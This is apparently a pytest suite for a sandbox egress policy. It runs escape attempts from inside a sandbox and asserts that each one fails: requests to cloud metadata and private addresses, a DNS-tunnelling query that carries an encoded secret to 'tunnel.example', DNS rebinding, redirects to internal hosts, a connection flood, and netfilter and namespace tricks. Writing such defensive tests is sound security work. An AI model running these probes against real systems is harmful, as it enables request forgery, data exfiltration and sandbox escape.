"""Ways around the door of a sandbox that has a network: each is tried, and leads nowhere."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from typing import TYPE_CHECKING

import pytest_asyncio

from attack.inside import run
from smokebox.egress.message import Response
from smokebox.egress.policy import Egress
from smokebox.engine.jail.network import PORT

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator

    import pytest

    from smokebox.egress.handler import HandlerContext
    from smokebox.egress.message import Request
    from smokebox.engine.host import Host
    from smokebox.engine.sandbox import Sandbox
    from smokebox.isolation import Tier
    from smokebox.types import NetworkEvent

CONNECT = r"""
REQUEST = b"GET / HTTP/1.1\r\nHost: somewhere\r\nConnection: close\r\n\r\n"

def connect(address, port, kind=socket.SOCK_STREAM, say=REQUEST, wait=5):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as sock:
        sock.settimeout(wait)
        try:
            sock.connect((address, port))
            sock.send(say)
            return sock.recv(100).decode(errors="replace") or "closed"
        except TimeoutError:
            return "timeout"
        except OSError as error:
            return errno.errorcode[error.errno]
"""
NOWHERE = {"ECONNREFUSED", "ECONNRESET", "ENETUNREACH", "EHOSTUNREACH", "closed"}


async def greet(request: Request, env: object, context: HandlerContext) -> Response:
    return Response("hello")


@pytest_asyncio.fixture
async def guarded(host: Host, tier: Tier) -> Sandbox:
    """A sandbox that may reach one host, which answers by a handler."""
    return await host.create("guarded", egress={"outbound_by_host": {"api.test": greet}})


@pytest_asyncio.fixture
async def service() -> AsyncIterator[Service]:
    """A server of the host's on every address that it has."""
    with contextlib.closing(Service()) as service:
        yield service


class Service:
    """A server that nobody is to reach; `reached` says that somebody did."""

    def __init__(self) -> None:
        self._sock = socket.create_server(("", 0))
        self._sock.setblocking(False)
        self.port = self._sock.getsockname()[1]

    @property
    def reached(self) -> bool:
        try:
            self._sock.accept()[0].close()
        except BlockingIOError:
            return False
        return True

    def close(self) -> None:
        self._sock.close()


def own_addresses() -> Iterator[str]:
    """What this machine is called by, as far as it says."""
    for info in socket.getaddrinfo(socket.gethostname(), None, type=socket.SOCK_STREAM):
        yield str(info[4][0]).partition("%")[0]


async def said(sandbox: Sandbox, count: int) -> list[NetworkEvent]:
    async with asyncio.timeout(10):
        while len(events := await sandbox.egress_proxy.audit_log.read()) < count:
            await asyncio.sleep(0.01)
    return events


async def test_addresses_instead_of_names_are_refused(guarded: Sandbox, service: Service) -> None:
    places = [
        "169.254.169.254",
        "10.0.0.1",
        "192.168.0.1",
        "172.17.0.1",
        "8.8.8.8",
        "2606:4700:4700::1111",
        "fd00:ec2::254",
        *own_addresses(),
    ]
    answers = await run(
        guarded,
        CONNECT
        + "port = int(sys.argv[1])\n"
        + "tell({f'{a} {p}': connect(a, p) for a in sys.argv[2:] for p in (port, 22)})",
        str(service.port),
        *places,
    )
    assert {place: said for place, said in answers.items() if said not in NOWHERE} == {}
    assert not service.reached


async def test_the_web_ports_of_an_address_answer_with_the_reason(guarded: Sandbox) -> None:
    answers = await run(
        guarded,
        CONNECT
        + "head = 'GET / HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n'\n"
        + "tell([connect(a.strip('[]'), 80, say=head.format(a).encode()) for a in sys.argv[1:]])",
        "169.254.169.254",
        "[2606:4700::1]",
    )
    assert all("403" in answer for answer in answers), answers


async def test_the_loopback_inside_is_the_sandboxs_own(guarded: Sandbox, service: Service) -> None:
    answers = await run(
        guarded,
        CONNECT + "tell([connect(place, int(sys.argv[1])) for place in sys.argv[2:]])",
        str(service.port),
        *("127.0.0.1", "127.0.0.53", "::1", "0.0.0.0", "10.11.0.2", "::ffff:127.0.0.1"),
    )
    assert set(answers) == {"ECONNREFUSED"}
    assert not service.reached


async def test_another_sandbox_is_not_reached(guarded: Sandbox, host: Host) -> None:
    other = await host.create("other", egress=Egress(internet=True))
    serve = "import socket; s = socket.create_server(('', 8080)); print('up', flush=True); "
    serve += "s.accept()[0].send(b'other')"
    process = await other.start_process(["python3", "-c", serve])
    await process.wait_for_log("up", timeout=15)
    answers = await run(
        guarded,
        CONNECT + "tell([connect(a, 8080) for a in ('10.11.0.2', '10.11.0.1', '198.18.0.1')])",
    )
    assert set(answers) <= NOWHERE
    await other.destroy()


async def test_the_doors_own_ports_lead_nowhere(guarded: Sandbox) -> None:
    answers = await run(
        guarded,
        CONNECT
        + f"""
answers = [connect(a, {PORT}) for a in ("127.0.0.1", "::1", "10.11.0.2", "1.2.3.4")]
answers.append(connect("127.0.0.1", {PORT}, socket.SOCK_DGRAM, b"no question", 0.5))
taken = []
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        sock = socket.socket(family, kind)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        taken.append(attempt(sock.bind, (address, {PORT})))
        taken.append(attempt(sock.listen) if kind == socket.SOCK_STREAM else "EADDRINUSE")
tell([answers, taken])
""",
    )
    assert set(answers[0]) <= {*NOWHERE, "timeout"}
    assert "done" not in answers[1][::2]
    result = await guarded.exec(["curl", "-sS", "https://api.test/"])
    assert result.stdout == "hello", result.stderr


async def test_resolvers_outside_are_not_asked(guarded: Sandbox) -> None:
    answers = await run(
        guarded,
        CONNECT
        + r"""
def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"

def ask_by(address, name, kind=socket.SOCK_DGRAM):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as sock:
        sock.settimeout(5)
        sock.connect((address, 53))
        size = struct.pack("!H", len(question(name))) if kind == socket.SOCK_STREAM else b""
        sock.send(size + question(name))
        answer = sock.recv(600)[len(size):]
        return answer[3] & 15

places = ("1.1.1.1", "8.8.8.8", "10.11.0.1", "2606:4700:4700::1111")
secret = "c2VjcmV0" * 7
tell([[ask_by(place, f"{secret}.tunnel.example") for place in places],
      [ask_by(place, "api.test") for place in places],
      ask_by("1.1.1.1", "tunnel.example", socket.SOCK_STREAM),
      connect("1.1.1.1", 853), connect("1.1.1.1", 5353, socket.SOCK_DGRAM, b"x")])
""",
    )
    refused, known, by_tcp, by_tls, multicast = answers
    assert set(refused) == {3}
    assert set(known) == {0}
    assert by_tcp == 3
    assert by_tls in NOWHERE
    assert multicast == "ECONNREFUSED"
    events = await said(guarded, 5)
    assert {event.verdict for event in events} == {"refused"}


async def test_datagrams_and_pings_go_nowhere(guarded: Sandbox) -> None:
    answers = await run(
        guarded,
        CONNECT
        + r"""
udp = [connect(a, p, socket.SOCK_DGRAM, b"x") for a in ("1.2.3.4", "2606:4700::1", "10.0.0.1")
       for p in (443, 123, 51820)]
icmp = [attempt(socket.socket, family, kind, protocol)
        for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58))
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM)]
tell([udp, icmp])
""",
    )
    assert set(answers[0]) == {"ECONNREFUSED"}
    assert "done" not in answers[1]


async def test_a_name_that_leads_inside_is_refused_whatever_it_led_to_before(
    host: Host, tier: Tier, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS rebinding: the host's resolver says first a public address, then one inside."""
    found = iter(["127.0.0.1", "169.254.169.254", "10.0.0.1", "::1", "::ffff:127.0.0.1"])

    async def resolve(name: str, port: int) -> list[str]:
        return [next(found)]

    sandbox = await host.create("rebound", egress=Egress(tcp=[f"evil.test:{service.port}"]))
    from smokebox.engine.egress.http.upstream import UpstreamPool

    monkeypatch.setattr(sandbox.egress_proxy, "_pool", UpstreamPool(resolver=resolve))
    answers = await run(
        sandbox,
        CONNECT
        + "address = socket.gethostbyname('evil.test')\n"
        + "tell([connect(address, int(sys.argv[1])) for _ in range(5)])",
        str(service.port),
    )
    assert set(answers) <= NOWHERE
    events = await said(sandbox, 5)
    assert {event.rule for event in events} == {"private"}
    assert not service.reached


async def test_a_redirect_inside_is_judged_as_any_other_request(
    host: Host, tier: Tier, service: Service
) -> None:
    async def send_away(request: Request, env: object, context: HandlerContext) -> Response:
        return Response("", 302, {"location": request.url.partition("?")[2]})

    policy = Egress(internet=True, outbound_by_host={"api.test": send_away})
    sandbox = await host.create("sent-away", egress=policy)
    ask = ["curl", "-sSLgm10", "-w", " %{http_code}"]
    for place in ("169.254.169.254", "10.0.0.1", "[fd00:ec2::254]"):
        told = await sandbox.exec([*ask, f"https://api.test/?http://{place}/"])
        assert told.stdout.endswith(" 403"), (place, told.stdout, told.stderr)
        assert "an address inside" in told.stdout
    for place in own_addresses():
        shown = f"[{place}]" if ":" in place else place
        told = await sandbox.exec([*ask, f"https://api.test/?http://{shown}:{service.port}/"])
        assert told.exit_code != 0, (place, told.stdout)
    assert not service.reached


async def test_a_made_up_address_that_nobody_asked_for_leads_nowhere(guarded: Sandbox) -> None:
    answers = await run(
        guarded, CONNECT + "tell([connect(a, 5432) for a in ('198.18.0.200', '198.19.255.254')])"
    )
    assert set(answers) <= NOWHERE


async def test_a_flood_of_questions_and_connections_leaves_the_engine_at_work(
    guarded: Sandbox, host: Host
) -> None:
    flood = r"""
import socket, time
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setblocking(False)
print("begun", flush=True)
socks, until = [], time.monotonic() + 30
while time.monotonic() < until:
    for _ in range(50):
        try:
            udp.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4evil\0\0\1\0\1", ("9.9.9.9", 53))
        except OSError:
            pass
    sock = socket.socket()
    sock.setblocking(False)
    sock.connect_ex(("1.2.3.4", 9999))
    socks = [*socks[-200:], sock]
"""
    process = await guarded.start_process(["python3", "-c", flood])
    await process.wait_for_log("begun", timeout=15)
    neighbour = await host.create("neighbour")
    async with asyncio.timeout(15):
        for _ in range(5):
            assert (await neighbour.exec(["true"])).exit_code == 0
    await process.kill()
    await process.wait_for_exit(timeout=15)
    result = await guarded.exec(["curl", "-sSm10", "https://api.test/"])
    assert result.stdout == "hello", result.stderr


async def test_rules_and_routes_cannot_be_changed_from_inside(guarded: Sandbox) -> None:
    answers = await run(
        guarded,
        r"""
answers = {
    "netfilter": attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 12),
    "unshare": ask("unshare", 0x40000000),
    "setns": ask("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0x40000000)
    if os.path.exists("/proc/self/ns/net") else "ENOENT",
}
for path in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet"):
    answers[path] = attempt(write, path, "1")
tell(answers)
""",
    )
    assert {what: said for what, said in answers.items() if not isinstance(said, str)} == {}
    assert "done" not in answers.values()


async def test_sockets_cannot_be_made_to_go_around_the_rules(
    guarded: Sandbox, kernel_of_the_host: None
) -> None:
    answers = await run(
        guarded,
        r"""
answers = {}
# IPT_SO_SET_REPLACE, and turning a socket transparent.
sock = socket.socket()
answers["iptables"] = attempt(sock.setsockopt, socket.SOL_IP, 64, b"x" * 100)
answers["transparent"] = attempt(sock.setsockopt, socket.SOL_IP, 19, 1)
answers["mark"] = attempt(sock.setsockopt, socket.SOL_SOCKET, 36, 1)
answers["device"] = attempt(sock.setsockopt, socket.SOL_SOCKET, 25, b"eth0\0")
tell(answers)
""",
    )
    assert set(answers.values()) <= {"EPERM", "EINVAL", "ENOPROTOOPT", "ENODEV"}
